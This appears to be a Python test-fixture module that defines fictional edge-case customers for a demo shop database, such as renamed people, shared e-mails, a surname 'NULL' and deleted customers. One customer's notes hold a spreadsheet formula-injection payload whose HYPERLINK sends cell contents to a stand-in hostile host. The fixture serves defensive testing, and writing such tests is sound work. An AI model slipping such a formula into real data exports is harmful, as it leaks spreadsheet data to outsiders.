"""The people whose stories the demonstration tells, each a trap for careless machinery.

Their customer numbers never change, so that a guide can name them. Whatever the crowd does by
chance, these people's rows are written down here and elsewhere under their names.
"""

from __future__ import annotations

import datetime as dt
from typing import Final

from govreg.demo.people import Address, Person, first_day, identity_code, phone

FIRST_CUSTOMER: Final = 1001
"""The lowest customer number in use."""

ANNA: Final = 1042
"""The main person: married and renamed, two e-mails, vouchers on both sides of the minimum."""

ANNA_EMAIL: Final = "anna.virtanen@posti.example"
"""What Anna uses today; the shop knows her by it, written with capitals."""

ANNA_OLD_EMAIL: Final = "anna.korhonen@vanhaposti.example"
"""What Anna used under her former name; customer relations and old newsletters still do."""

HOUSEHOLD_MATE: Final = 1043
"""Mikko, who lives with Anna, shares her address row, and stays a customer."""

NEIGHBOUR_NAME: Final = "Sirpa Laakso"
"""The third person whom Anna's letter names; not a customer."""

NEIGHBOUR_EMAIL: Final = "sirpa.laakso@naapuri.example"
"""The third person's e-mail, in the text of Anna's letter only."""

EMPLOYEE: Final = 7
"""The number in `employees` of Tuomas, who answers letters by the hundred and also shops here."""

EMPLOYEE_CUSTOMER: Final = 1051
"""Tuomas as a customer, under his e-mail at work."""

EMPLOYEE_EMAIL: Final = "tuomas.nieminen@kotipuoti.example"
"""One address, in `employees` and in `customers`."""

TWINS: Final = (1060, 1061)
"""A couple with one e-mail address between them: it names neither of the two."""

TWINS_EMAIL: Final = "heikkiset@posti.example"
"""The couple's address."""

NOBODY: Final = 1070
"""A customer row with a number and nothing else."""

ACCENTED: Final = 1071
"""A name with an apostrophe, å, ä and ö, and an e-mail with an apostrophe."""

CALLED_NULL: Final = 1072
"""A person whose family name is the text `NULL`."""

FORMULA: Final = 1073
"""A person whose notes a spreadsheet would run as a formula."""

FORMULA_TEXT: Final = '=HYPERLINK("https://paha.example/?k="&A1;"Avaa tästä")'
"""The notes of that person, in the shop and in customer relations."""

GONE_CUSTOMERS: Final = (901, 902, 903)
"""Customers deleted long ago whose orders stayed: the reference leads nowhere."""

FORMER_AGENT: Final = 99
"""An employee number that Anna's letter names and `employees` no longer holds."""

WITHDRAWN_PRODUCT: Final = 999
"""A product number that an order line of Anna's names and `products` no longer holds."""

FEWEST_CUSTOMERS: Final = 100
"""With fewer, not everybody above would fit in."""

FIRST_FREE_ADDRESS: Final = 11
"""Address rows from here on belong to the crowd."""

_ANNAS_HOME: Final = Address(id=1, street="Tammitie 4 B 12", postal_code="33720", city="Tampere")
_ANNAS_OLD_HOME: Final = Address(id=0, street="Rantatie 18", postal_code="40100", city="Jyväskylä")
_HEIKKINEN_HOME: Final = Address(id=2, street="Niittykatu 7", postal_code="70100", city="Kuopio")
_TUOMAS_HOME: Final = Address(id=3, street="Ratakatu 33 A 5", postal_code="33100", city="Tampere")
_ASAS_HOME: Final = Address(id=4, street="Välikatu 2", postal_code="65100", city="Vaasa")
_RITVAS_HOME: Final = Address(id=5, street="Kielotie 9", postal_code="15110", city="Lahti")
_ERKKIS_HOME: Final = Address(id=6, street="Jokikatu 21", postal_code="90100", city="Oulu")


def cast(today: dt.date) -> tuple[Person, ...]:
    """Everybody of the cast who has a customer row, by number."""
    since = first_day(today)
    return (*_household(since), _tuomas(since), *_couple(since), Person(id=NOBODY), *_odd(since))


def anna_before(today: dt.date) -> Person:
    """Anna as vouchers from before her wedding have her."""
    anna = _household(first_day(today))[0]
    return Person(
        id=ANNA,
        first_name=anna.first_name,
        last_name="Korhonen",
        email=ANNA_OLD_EMAIL,
        phone=anna.phone,
        address=_ANNAS_OLD_HOME,
    )


def annas_wedding(today: dt.date) -> dt.date:
    """From this day on Anna has her present name, e-mail and home."""
    return dt.date(today.year - 5, 6, 1)


def gone(today: dt.date) -> tuple[Person, ...]:
    """The deleted customers, whom only vouchers still name."""
    names = (("Yrjö", "Kuusela"), ("Lahja", "Rautio"), ("Nils", "Sandström"))
    return tuple(
        Person(
            id=customer,
            first_name=first,
            last_name=last,
            address=Address(
                id=0, street=f"Harjukatu {customer}", postal_code="28100", city="Pori"
            ),
            created=first_day(today),
        )
        for customer, (first, last) in zip(GONE_CUSTOMERS, names, strict=True)
    )


def _household(since: dt.date) -> tuple[Person, Person]:
    born = dt.date(1986, 4, 17)
    anna = Person(
        id=ANNA,
        first_name="Anna",
        last_name="Virtanen",
        email="Anna.Virtanen@posti.example",
        phone=phone(ANNA, 1),
        birthdate=born,
        national_id=identity_code(born, 42),
        address=_ANNAS_HOME,
        segment="vip",
        notes="Kysyi allergiasta: ei villaa. Mies noutaa paketit joskus.",
        created=since + dt.timedelta(days=33),
    )
    mikko = Person(
        id=HOUSEHOLD_MATE,
        first_name="Mikko",
        last_name="Virtanen",
        email="mikko.virtanen@netti.example",
        phone=phone(HOUSEHOLD_MATE, 2),
        birthdate=dt.date(1984, 11, 2),
        address=_ANNAS_HOME,
        segment="regular",
        created=since + dt.timedelta(days=1400),
    )
    return anna, mikko


def _tuomas(since: dt.date) -> Person:
    return Person(
        id=EMPLOYEE_CUSTOMER,
        first_name="Tuomas",
        last_name="Nieminen",
        email=EMPLOYEE_EMAIL,
        phone=phone(EMPLOYEE_CUSTOMER, 4),
        birthdate=dt.date(1990, 1, 30),
        address=_TUOMAS_HOME,
        segment="regular",
        notes="Henkilöstöalennus.",
        created=since + dt.timedelta(days=700),
    )


def _couple(since: dt.date) -> tuple[Person, ...]:
    born = (dt.date(1955, 8, 9), dt.date(1957, 3, 24))
    return tuple(
        Person(
            id=customer,
            first_name=first,
            last_name="Heikkinen",
            email=TWINS_EMAIL if customer == TWINS[0] else TWINS_EMAIL.capitalize(),
            phone=phone(customer, 3),
            birthdate=day,
            address=_HEIKKINEN_HOME,
            segment="regular",
            created=since + dt.timedelta(days=customer - TWINS[0] + 90),
        )
        for customer, first, day in zip(TWINS, ("Pekka", "Liisa"), born, strict=True)
    )


def _odd(since: dt.date) -> tuple[Person, ...]:
    return (
        Person(
            id=ACCENTED,
            first_name="Åsa-Märta",
            last_name="O'Grönlund",
            email="asa.o'gronlund@posti.example",
            phone=phone(ACCENTED, 5),
            birthdate=dt.date(2001, 2, 28),
            national_id=identity_code(dt.date(2001, 2, 28), 7),
            address=_ASAS_HOME,
            created=since + dt.timedelta(days=900),
        ),
        Person(
            id=CALLED_NULL,
            first_name="Ritva",
            last_name="NULL",
            email="ritva.null@posti.example",
            phone="",
            address=_RITVAS_HOME,
            segment="",
            created=since + dt.timedelta(days=1000),
        ),
        Person(
            id=FORMULA,
            first_name="Erkki",
            last_name="Esimerkki",
            email="erkki.esimerkki@posti.example",
            phone=phone(FORMULA, 0),
            address=_ERKKIS_HOME,
            notes=FORMULA_TEXT,
            created=since + dt.timedelta(days=1100),
        ),
    )
